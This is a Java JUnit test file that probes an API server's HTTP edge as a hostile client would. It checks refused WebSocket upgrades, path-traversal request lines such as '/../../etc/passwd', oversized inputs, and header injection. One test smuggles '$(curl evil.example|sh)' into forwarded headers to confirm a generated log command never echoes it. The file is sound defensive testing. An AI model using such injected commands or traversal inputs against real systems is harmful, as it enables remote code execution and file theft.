package dev.oats.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.oats.server.RawHttp;
import dev.oats.server.ServerHarness;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The HTTP edge as a hostile client meets it: anonymous requests leave no session behind, and every
 * refusal, even one Jetty makes before any route runs, is the API's JSON error.
 */
class HttpEdgeTest {

  @TempDir static Path dir;
  static ServerHarness harness;
  static int port;

  @BeforeAll
  static void start() throws Exception {
    harness = new ServerHarness(dir);
    harness.env.put("OATS_APPROVAL_TIMEOUT_SECONDS", "5");
    harness.start();
    port = URI.create(harness.url("/")).getPort();
  }

  @AfterAll
  static void stop() throws Exception {
    harness.close();
  }

  private static String upgrade(String path, String extraHeaders) {
    return "GET "
        + path
        + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        + "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        + extraHeaders
        + "Connection: close\r\n\r\n";
  }

  private static JsonNode error(RawHttp.Answer answer) throws Exception {
    assertThat(answer.header("Content-Type")).as(answer.toString()).startsWith("application/json");
    JsonNode body = ServerHarness.JSON.readTree(answer.body());
    assertThat(body.path("error").path("code").asText()).as(answer.body()).isNotBlank();
    assertThat(body.path("error").path("message").asText()).as(answer.body()).isNotBlank();
    return body.get("error");
  }

  @Test
  void twentyThousandRefusedWebSocketUpgradesLeaveNoSessionBehind() throws Exception {
    int attempts = 20_000;
    AtomicInteger cookies = new AtomicInteger();
    AtomicInteger refused = new AtomicInteger();
    ExecutorService pool = Executors.newFixedThreadPool(4);
    try {
      List<Future<?>> work = new ArrayList<>();
      for (int worker = 0; worker < 4; worker++) {
        work.add(
            pool.submit(
                () -> {
                  for (int i = 0; i < attempts / 4; i++) {
                    RawHttp.Answer answer =
                        RawHttp.send(port, upgrade("/ws/investigations/x" + i, ""));
                    if (answer.status() == 401) {
                      refused.incrementAndGet();
                    }
                    if (answer.headers().containsKey("set-cookie")) {
                      cookies.incrementAndGet();
                    }
                  }
                  return null;
                }));
      }
      for (Future<?> f : work) {
        f.get();
      }
    } finally {
      pool.shutdownNow();
    }

    assertThat(refused).hasValue(attempts);
    assertThat(cookies).as("answers that set a session cookie").hasValue(0);
    assertThat(harness.jettySessionsCreated()).as("HTTP sessions Jetty created").isZero();
  }

  @Test
  void aRefusedWebSocketUpgradeIsAJsonError() throws Exception {
    RawHttp.Answer answer = RawHttp.send(port, upgrade("/ws/investigations/abc", ""));

    assertThat(answer.status()).isEqualTo(401);
    assertThat(error(answer).get("code").asText()).isEqualTo("unauthorized");
    assertThat(answer.headers()).doesNotContainKey("set-cookie");

    RawHttp.Answer badTicket = RawHttp.send(port, upgrade("/ws/investigations/abc?ticket=t", ""));
    assertThat(badTicket.status()).isEqualTo(401);
    assertThat(error(badTicket).get("message").asText()).contains("ticket");
  }

  @Test
  void anAuthorisedWebSocketStillOpens() throws Exception {
    RawHttp.Answer answer =
        RawHttp.send(
            port, upgrade("/ws/investigations/abc", "X-API-Key: " + ServerHarness.KEY + "\r\n"));

    assertThat(answer.status()).isEqualTo(101);
    assertThat(answer.headers()).doesNotContainKey("set-cookie");
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "bad UTF-8 in the path       | GET /%ff%fe HTTP/1.1                | 400",
        "a raw .. segment            | GET /../../etc/passwd HTTP/1.1      | 400",
        "an encoded .. segment       | GET /public/%2e%2e/%2e%2e/x HTTP/1.1 | 400",
        "an unknown HTTP version     | GET /healthz HTTP/7.3               | 505",
        "a garbled request line      | GARBAGE                             | 400",
      })
  void jettyRefusalsAreJsonErrors(String what, String requestLine, int status) throws Exception {
    RawHttp.Answer answer =
        RawHttp.send(port, requestLine + "\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");

    assertThat(answer.status()).as(answer.toString()).isEqualTo(status);
    error(answer);
  }

  @Test
  void aUriTooLongIs414Json() throws Exception {
    RawHttp.Answer answer =
        RawHttp.send(
            port,
            "GET /investigations?q="
                + "a".repeat(70_000)
                + " HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n");

    assertThat(answer.status()).isEqualTo(414);
    assertThat(error(answer).get("code").asText()).isEqualTo("uri_too_long");
  }

  @Test
  void headersTooLargeAre431Json() throws Exception {
    RawHttp.Answer answer =
        RawHttp.send(
            port,
            "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Big: "
                + "b".repeat(70_000)
                + "\r\nConnection: close\r\n\r\n");

    assertThat(answer.status()).isEqualTo(431);
    assertThat(error(answer).get("code").asText()).isEqualTo("headers_too_large");
  }

  @Test
  void anUnknownMethodIs405NotFound() throws Exception {
    for (String method : List.of("FOO", "PATCH", "DELETE")) {
      RawHttp.Answer answer =
          RawHttp.send(
              port,
              method
                  + " /investigations HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-Key: "
                  + ServerHarness.KEY
                  + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");

      assertThat(answer.status()).as(method).isEqualTo(405);
      assertThat(error(answer).get("code").asText()).isEqualTo("method_not_allowed");
    }
  }

  @Test
  void anEmptyStatusListIsABadRequestNotACrash() throws Exception {
    for (String query : List.of("status=,", "status=,,", "status=%20,%20")) {
      HttpResponse<String> response = harness.get("/investigations?" + query);

      assertThat(response.statusCode()).as(query).isEqualTo(400);
      assertThat(ServerHarness.json(response).at("/error/message").asText()).contains("'status'");
    }
  }

  @Test
  void anOverRangeLimitIsSaidToBeOutOfRange() throws Exception {
    for (String limit : List.of("1000", "99999999999999999999", "-5", "0")) {
      HttpResponse<String> response = harness.get("/investigations?limit=" + limit);

      assertThat(response.statusCode()).isEqualTo(400);
      assertThat(ServerHarness.json(response).at("/error/message").asText())
          .as(limit)
          .contains("out of range")
          .doesNotContain("whole number");
    }
    assertThat(ServerHarness.json(harness.get("/investigations?limit=ten")).toString())
        .contains("whole number");
  }

  @Test
  void anOversizedApprovalBodyIsNotAboutTheGoal() throws Exception {
    String id = harness.submit("a goal to approve calls in");
    String body = "{\"approve\": true, \"reason\": \"" + "x".repeat(100_000) + "\"}";

    HttpResponse<String> response =
        harness.post("/investigations/" + id + "/approvals/call-1", body);

    assertThat(response.statusCode()).isEqualTo(413);
    assertThat(ServerHarness.json(response).at("/error/message").asText()).doesNotContain("goal");
  }

  @Test
  void theLogsCommandNeverEchoesTheRequestsHostOrForwardedHeaders() throws Exception {
    harness.model.enqueue(
        dev.oats.testkit.ScriptedReply.toolCall("finish", "{\"result\": \"ok\"}"));
    String hostile = "$(curl evil.example|sh)";
    String body = "{\"goal\": \"hi\"}";
    RawHttp.Answer answer =
        RawHttp.send(
            port,
            ("POST /investigate HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Proto: "
                    + hostile
                    + "\r\nX-Forwarded-Host: "
                    + hostile
                    + "\r\nX-API-Key: "
                    + ServerHarness.KEY
                    + "\r\nContent-Type: application/json\r\nContent-Length: "
                    + body.length()
                    + "\r\nConnection: close\r\n\r\n"
                    + body)
                .getBytes(StandardCharsets.UTF_8));

    assertThat(answer.status()).as(answer.body()).isEqualTo(200);
    String command =
        ServerHarness.JSON.readTree(answer.body()).get("command_to_check_logs").asText();
    assertThat(command)
        .contains("http://127.0.0.1:" + port + "/investigations/")
        .doesNotContain("evil")
        .doesNotContain("$(");
  }

  @Test
  void aHealthCheckStillAnswersAfterAllThat() throws Exception {
    HttpResponse<String> response =
        harness.send(HttpRequest.newBuilder(URI.create(harness.url("/healthz"))).GET());

    assertThat(response.statusCode()).isEqualTo(200);
  }
}
